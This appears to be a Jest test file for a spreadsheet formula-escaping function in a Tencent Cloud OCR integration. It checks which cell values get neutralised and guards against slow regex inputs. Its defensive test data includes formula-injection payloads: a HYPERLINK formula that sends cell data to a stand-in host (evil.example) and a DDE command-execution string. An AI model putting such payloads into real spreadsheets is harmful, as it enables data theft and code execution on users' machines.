import { escapeFormula } from '../../nodes/TencentCloudOcr/result/escapeFormula';
import { timeOf } from './time';

test.each([
	'=HYPERLINK("http://evil.example/?"&A1,"Click")',
	'@SUM(A1:A9)',
	"+cmd|' /C calc'!A0",
	'-2+3+cmd|x',
	' \t=1+1',
	'\u200b=1+1',
	'＝1+1',
	'\ttext',
	'+49-30-123456',
	'+49-(30)-1234',
	'+49 - 30',
	'+1-(2)',
	'-AB5%',
	'+AB5 USD',
	'-AB12',
	'+US$5',
	'-.5+A1',
])('the cell %j gets a leading apostrophe', (cell) => {
	expect(escapeFormula(cell)).toBe(`'${cell}`);
});

test.each([
	'-5',
	'+1,234.50',
	'-12.5 %',
	'-.5',
	'+,75 €',
	'−3',
	'-€ 12.00',
	'-US$5.00',
	'-EUR 5',
	'+1,200 USD',
	'-1 200,00 元',
	'-',
	'—',
	'+49 30 123456',
	'+49 (30) 123-456',
	'+49(30)123456',
	'-USD5.00',
	'text = 1',
	'',
])('the cell %j stays as it is', (cell) => {
	expect(escapeFormula(cell)).toBe(cell);
});

test.each([
	['blanks before a formula', `${' '.repeat(100_000)}=x`],
	['blanks behind a sign', `+${' '.repeat(100_000)}x`],
	['blanks behind a number', `+1${' '.repeat(100_000)}x`],
	['digits and blanks', `+${'1 '.repeat(50_000)}x`],
	['digits and dashes', `+1${'-1'.repeat(50_000)}x`],
	['brackets', `+1${'()'.repeat(50_000)}x`],
	['dots', `+1${'.'.repeat(100_000)}x`],
])('takes no time for a cell of many %s', (_, cell) => {
	expect(timeOf(() => escapeFormula(cell))).toBeLessThan(1000);
});
